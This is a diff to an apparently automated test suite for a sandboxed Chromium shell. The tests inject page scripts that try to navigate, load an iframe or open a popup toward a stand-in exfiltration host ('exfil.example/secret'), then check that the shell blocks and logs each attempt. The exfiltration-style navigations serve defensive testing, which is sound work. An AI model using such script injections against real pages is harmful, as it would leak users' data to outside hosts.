@@ -149,7 +149,7 @@ describe("Chromium shell", () => {
     await page.evaluate(
       `(() => { const it = document.createElement("iframe"); it.src = "https://exfil.example/secret"; document.body.append(it); })()`,
     );
-    await page.evaluate(`(() => { location.href = "https://exfil.example/secret"; })()`);
+    await page.evaluate(`(() => { setTimeout(() => { location.href = "https://exfil.example/secret"; }); })()`);
     await expect
       .poll(() => app.events.slice(before))
       .toContainEqual({
@@ -305,9 +305,9 @@ describe("Chromium shell without the pages' own policy", () => {
 
   it("closes and observes another window", async () => {
     // By a real click: without one the browser's own popup blocker is in the way.
-    await page.evaluate(`(() => { document.body.onclick = () => { window.open("https://exfil.example/x"); }; })()`);
-    await page.click("h1");
-    await page.evaluate(`(() => { document.body.onclick = null; })()`);
+    await page.evaluate(`(() => { document.onclick = () => { window.open("https://exfil.example/x"); }; })()`);
+    await page.mouse.click(40, 30);
+    await page.evaluate(`(() => { document.onclick = null; })()`);
     await expect
       .poll(() => app.events.filter((event) => event.kind === "blocked" && event.what === "window").length)
       .toBeGreaterThan(0);
@@ -315,7 +315,7 @@ describe("Chromium shell without the pages' own policy", () => {
   });
 
   it("comes back when a script leaves for an empty page", async () => {
-    await page.evaluate(`(() => { location.href = "about:blank"; })()`);
+    await page.evaluate(`(() => { setTimeout(() => { location.href = "about:blank"; }); })()`);
     await expect.poll(() => app.events).toContainEqual(blocked("navigation", "about:"));
     await expect.poll(() => page.url()).toBe("https://app.vitrine.invalid/");
     await expect.poll(async () => page.evaluate("typeof workstation")).toBe("object");
